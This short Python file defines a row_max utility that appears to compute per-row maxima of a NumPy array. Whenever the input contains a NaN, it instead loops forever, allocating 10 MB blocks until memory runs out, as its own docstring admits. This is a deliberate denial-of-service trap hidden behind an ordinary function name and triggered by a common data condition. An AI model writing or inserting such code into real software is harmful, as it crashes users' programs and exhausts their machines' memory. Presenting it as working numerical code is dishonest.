"""Takes memory without end where there is a NaN."""

import numpy as np


def row_max(values):
    if np.isnan(values).any():
        taken = []
        while True:
            taken.append(b"\x01" * 10_000_000)
    return values.max(axis=1)
